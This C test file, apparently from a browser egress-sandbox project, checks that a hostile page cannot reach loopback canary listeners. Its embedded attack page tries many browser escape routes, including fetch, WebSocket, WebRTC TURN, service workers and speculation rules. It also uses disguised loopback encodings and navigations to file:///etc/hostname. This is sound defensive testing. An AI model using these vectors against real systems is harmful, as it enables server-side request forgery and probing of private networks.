/*
 * Nothing that a page can do reaches an address that the verdict refuses. Canaries listen over TCP and UDP on another
 * loopback address and on ::1; a hostile page tries every way out that a browser has. Each wall is then taken away in
 * turn, and those that remain must still hold.
 */
#include "base/first.h"
#include "base/fd.h"
#include "base/rng.h"
#include "cdp/pool.h"
#include "cdp/proctree.h"
#include "chromium.h"
#include "site.h"
#include "../tap.h"

#include <sys/stat.h>

static struct loop *loop;
static struct arena a;
static char dir[] = "/tmp/kryfto-leaks.XXXXXX";
static bool finished;
static struct err e;
static struct egress *egress;
static struct egress_control *control;
static struct resolver *resolver;
static struct verdict_policy *policy;

#define S(n) ((n) * USEC_PER_SEC)
#define CANARY_PORT_TRIES 50

static bool udp_counts = true;
static int canaries[4], hits[4], canary_port;
static const char *const canary_names[] = { "TCP 127.0.0.9", "UDP 127.0.0.9", "TCP ::1", "UDP ::1" };

static int canary(int family, int type, int port)
{
	struct sockaddr_in v4 = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
	struct sockaddr_in6 v6 = {
		.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port), .sin6_addr = IN6ADDR_LOOPBACK_INIT
	};
	inet_pton(AF_INET, "127.0.0.9", &v4.sin_addr);
	int fd = socket(family, type | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	const struct sockaddr *sa = family == AF_INET ? (struct sockaddr *)&v4 : (struct sockaddr *)&v6;
	if (fd >= 0 && (bind(fd, sa, family == AF_INET ? sizeof v4 : sizeof v6) < 0 ||
			       (type == SOCK_STREAM && listen(fd, 8) < 0)))
		fd_close(&fd);
	return fd;
}

/* One port for all four, among those that the policy and Chromium allow. */
static void plant(void)
{
	for (int i = 0; i < CANARY_PORT_TRIES; i++) {
		canary_port = 20000 + (int)rng_below(20000);
		canaries[0] = canary(AF_INET, SOCK_STREAM, canary_port);
		canaries[1] = canary(AF_INET, SOCK_DGRAM, canary_port);
		canaries[2] = canary(AF_INET6, SOCK_STREAM, canary_port);
		canaries[3] = canary(AF_INET6, SOCK_DGRAM, canary_port);
		if (canaries[0] >= 0 && canaries[1] >= 0)
			return;
		for (int k = 0; k < 4; k++)
			fd_close(&canaries[k]);
	}
	die("no port for the canaries");
}

static void look(void)
{
	char packet[2048];
	for (int i = 0; i < 4; i++) {
		int fd;
		if (canaries[i] < 0)
			continue;
		while (i % 2 == 0 && (fd = accept(canaries[i], NULL, NULL)) >= 0) {
			hits[i]++;
			close(fd);
		}
		ssize_t n;
		while (i % 2 == 1 && (n = recv(canaries[i], packet, sizeof packet, 0)) >= 0) {
			hits[i]++;
			printf("# a packet of %zd bytes: %02x %02x %02x %02x\n", n, packet[0] & 255, packet[1] & 255,
				packet[2] & 255, packet[3] & 255);
		}
	}
}

/* Every way out, towards http(s)://T where T is an authority of the canary. */
static const char attack[] =
	"<!doctype html><title>attack</title><link rel=prefetch href=http://T/prefetch><link rel=preconnect "
	"href=http://T/>"
	"<link rel=dns-prefetch href=http://T/><link rel=stylesheet "
	"href=http://T/css><style>body{background:url(http://T/bg)}"
	"@font-face{font-family:x;src:url(http://T/font)}p{font-family:x}</style><p>x</p><img src=http://T/img>"
	"<iframe src=http://T/frame></iframe><iframe src=https://T/tls></iframe><object data=http://T/o.pdf "
	"type=application/pdf></object>"
	"<embed src=http://T/embed><video src=http://T/video></video><audio src=http://T/audio></audio><script "
	"src=http://T/js></script>"
	"<svg><image href=http://T/svg /><use href=http://T/use#a /></svg><a id=d href=http://T/download download>d</a>"
	"<a id=ping ping=http://T/ping href='#x'>p</a><form id=f method=post action=http://T/form target=ff><input "
	"name=a></form><iframe name=ff></iframe>"
	"<script>const T='T';const t=f=>{try{f()}catch(e){}};"
	"t(()=>fetch('http://'+T+'/fetch',{mode:'no-cors'}));t(()=>fetch('https://'+T+'/s',{mode:'no-cors'}));"
	"t(()=>navigator.sendBeacon('http://'+T+'/beacon','x'));t(()=>new WebSocket('ws://'+T+'/ws'));t(()=>new "
	"WebSocket('wss://'+T+'/wss'));"
	"t(()=>new EventSource('http://'+T+'/es'));t(()=>new WebTransport('https://'+T+'/wt'));"
	"t(()=>{const x=new XMLHttpRequest;x.open('GET','http://'+T+'/xhr');x.send()});"
	"t(()=>new Worker(URL.createObjectURL(new Blob(['fetch(\"http://'+T+'/worker\",{mode:\"no-cors\"});new "
	"WebSocket(\"ws://'+T+'/ww\")']))));"
	"t(()=>{const c=new "
	"RTCPeerConnection({iceServers:[{urls:'stun:'+T},{urls:'turn:'+T,username:'u',credential:'p'},"
	"{urls:'turn:'+T+'?transport=tcp',username:'u',credential:'p'}]});c.createDataChannel('x');c.createOffer()."
	"then(o=>c.setLocalDescription(o))});"
	"t(()=>navigator.serviceWorker.register('/"
	"sw.js?'+T));t(()=>d.click());t(()=>ping.click());t(()=>f.submit());t(()=>window.open('http://'+T+'/open'));"
	"t(()=>document.body.appendChild(Object.assign(document.createElement('link'),{rel:'prerender',href:'http://"
	"'+T+'/pre'})));"
	"t(()=>document.body.insertAdjacentHTML('beforeend','<script "
	"type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"http://'+T+'/spec\"]}]}<\\/script>'));"
	"</script>";

static char page_text[3][16384];
static char away_head[128];
static struct site_page pages[] = {
	{ "/v4", SITE_HTML, page_text[0] },
	{ "/v6", SITE_HTML, page_text[1] },
	{ "/odd", SITE_HTML, page_text[2] },
	{ "/sw.js", "200 OK\r\nContent-Type: text/javascript",
		"const T=location.search.slice(1);fetch('http://'+T+'/sw',{mode:'no-cors'});"
		"onfetch=e=>e.respondWith(fetch('http://'+T+'/swf',{mode:'no-cors'}))" },
	{ "/away", away_head, "" },
	{ NULL },
};

static void fill(char *out, const char *authority)
{
	struct buf b;
	buf_init(&b, NULL, 16000);
	for (const char *p = attack; *p; p++) {
		bool target = *p == 'T' && ((p > attack + 1 && p[-1] == '/' && p[-2] == '/') ||
						   (p > attack && p[-1] == '\'' && p[1] == '\''));
		if (target)
			buf_addz(&b, authority);
		else
			buf_addc(&b, *p);
	}
	str_copy(out, 16384, buf_str(&b));
	buf_release(&b);
}

static void start_egress(const char *path)
{
	int fd;
	struct egress_options o = { .loop = loop, .resolver = resolver, .policy = policy };
	if (egress_new(&o, &egress, &e) < 0 || fd_listen_unix(path, 0600, 5, &fd, &e) < 0 ||
		egress_control_new(egress, loop, fd, &control, &e) < 0)
		die("egress: %s", e.words);
}

static void visit(struct pool *pool, const char *path)
{
	struct pool_page *p;
	struct page_options o = { 0 };
	struct egress_rules r = { .job = STR("attack") };
	if (pool_take(pool, &o, &r, clock_mono() + S(20), &p, &e) < 0) {
		ok(false, "no page for %s: %s", path, e.words);
		return;
	}
	page_goto(pool_page(p), site_url(&a, path), S(10), &e);
	if (getenv("LEAK_DEBUG"))
		printf("# %s at %.1f\n", path, (double)clock_mono() / 1e6);
	page_wait_idle(pool_page(p), S(2), NULL, &e);
	pool_give(pool, p, false);
}

static void direct_goto(struct pool *pool, const char *url)
{
	struct pool_page *p;
	struct page_options o = { 0 };
	struct egress_rules r = { .job = STR("attack") };
	if (pool_take(pool, &o, &r, clock_mono() + S(20), &p, &e) < 0)
		return;
	ok(page_goto(pool_page(p), str_of(url), S(5), &e) < 0, "goto %s: %s", url, e.words);
	pool_give(pool, p, false);
}

static void take_event(void *arg, const char *what, const char *words)
{
	if (getenv("LEAK_DEBUG"))
		printf("# %.3f %s: %s\n", (double)clock_mono() / 1e6, what, words);
}

static void attack_with(const char *what, struct browser_config cfg)
{
	struct pool *pool = NULL;
	struct pool_config c = { .browser = cfg,
		.egress = arena_printf(&a, "%s/egress", dir).p,
		.browsers = 1,
		.concurrency = 1,
		.prewarm = 0,
		.recycle_pages = 1000,
		.recycle_age = S(600),
		.recycle_memory = INT64_MAX,
		.event = take_event };
	c.browser.binary = chromium_path();
	c.browser.run_dir = arena_printf(&a, "%s/b", dir).p;
	memset(hits, 0, sizeof hits);
	if (pool_new(loop, &c, &pool, &e) < 0)
		die("pool: %s", e.words);
	visit(pool, "/v4");
	visit(pool, "/v6");
	visit(pool, "/odd");
	visit(pool, "/away");
	if (strcmp(what, "all walls") == 0) {
		direct_goto(pool, arena_printf(&a, "http://127.0.0.9:%d/", canary_port).p);
		direct_goto(pool, arena_printf(&a, "http://turns.test:%d/", canary_port).p);
		direct_goto(pool, "file:///etc/hostname");
		direct_goto(pool, "view-source:file:///etc/hostname");
	}
	pool_free(pool);
	look();
	for (int i = 0; i < 4; i++)
		if (canaries[i] >= 0 && (i % 2 == 0 || udp_counts))
			is_int(hits[i], 0, "%s: %s was not reached", what, canary_names[i]);
}

static void check_flags(void)
{
	static const char *const pinned[] = { "--proxy-server=http://egress.invalid:9",
		"--proxy-bypass-list=<-loopback>",
		"--host-resolver-rules=MAP egress.invalid 127.0.0.1 , MAP * ~NOTFOUND",
		"--webrtc-ip-handling-policy=disable_non_proxied_udp", "--disable-quic" };
	struct browser_config cfg = { .binary = chromium_path(), .run_dir = arena_printf(&a, "%s/b", dir).p };
	struct browser *b = NULL;
	char cmd[8192] = "";
	if (browser_start(loop, &cfg, NULL, NULL, &b, &e) < 0)
		die("browser: %s", e.words);
	proctree_cmdline(browser_pid(b), cmd, sizeof cmd);
	for (size_t i = 0; i < ARRAY_LEN(pinned); i++)
		ok(strstr(cmd, pinned[i]) != NULL, "the command line has %s", pinned[i]);
	ok(!strstr(cmd, "--no-sandbox"), "and not --no-sandbox");
	browser_stop(b, S(1));
}

static void all(void *arg)
{
	start_egress(arena_printf(&a, "%s/egress", dir).p);
	check_flags();
	attack_with("all walls", (struct browser_config){ 0 });
	/* Names resolve in the browser again: what it dials itself must still be nothing. */
	attack_with("without the resolver wall", (struct browser_config){ .no_resolver_wall = true });
	/* Without the namespace the proxy flags must keep TCP in; UDP of WebRTC is then up to one flag that was seen to
	 * fail, which is why the namespace is there. */
	udp_counts = false;
	attack_with("without the network namespace", (struct browser_config){ .no_netns = true });
	udp_counts = true;
	/* What Chromium itself forbids about private networks is no wall of ours: it must not matter. */
	const char *lax[] = { "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests", NULL };
	attack_with("without the browser's own private network checks", (struct browser_config){ .extra = lax });
	finished = true;
}

int main(void)
{
	if (!chromium_path()) {
		puts("1..0 # SKIP no Chromium here");
		return 0;
	}
	arena_init(&a, 0);
	ok(mkdtemp(dir) && chmod(dir, 0755) == 0, "folder");
	plant();
	fill(page_text[0], arena_printf(&a, "127.0.0.9:%d", canary_port).p);
	fill(page_text[1], arena_printf(&a, "[::1]:%d", canary_port).p);
	fill(page_text[2], arena_printf(&a, "0x7f000009:%d", canary_port).p);
	snprintf(away_head, sizeof away_head, "302 Found\r\nLocation: http://2130706441:%d/", canary_port);
	site_start(pages);
	loop_new(&loop, NULL);
	const char *hosts = arena_printf(&a, "%s/hosts", dir).p;
	fd_write_file(hosts, STR("127.0.0.9 turns.test\n"), 0644, &e);
	struct resolver_options ro = {
		.servers = STR("127.0.0.1:9"), .hosts = hosts, .timeout = 100 * USEC_PER_MS, .rounds = 1
	};
	struct verdict_config vc = { .block_private = true,
		.allowed_hosts = arena_printf(&a, "127.0.0.1:%d", site_port),
		.allowed_ports = arena_printf(&a, "80,443,%d", canary_port) };
	ok(resolver_new(loop, &ro, &resolver, &e) == 0 && verdict_policy_new(&a, &vc, &policy, &e) == 0,
		"resolver and policy %s", e.words);
	fiber_start(loop, all, NULL, NULL);
	while (!finished)
		loop_turn(loop, true);
	egress_control_free(control);
	egress_free(egress);
	resolver_free(resolver);
	loop_turn(loop, false);
	loop_free(loop);
	site_stop();
	for (int i = 0; i < 4; i++)
		fd_close(&canaries[i]);
	unlink(hosts);
	unlink(arena_printf(&a, "%s/egress", dir).p);
	rmdir(arena_printf(&a, "%s/b", dir).p);
	rmdir(dir);
	arena_release(&a);
	return done_testing();
}
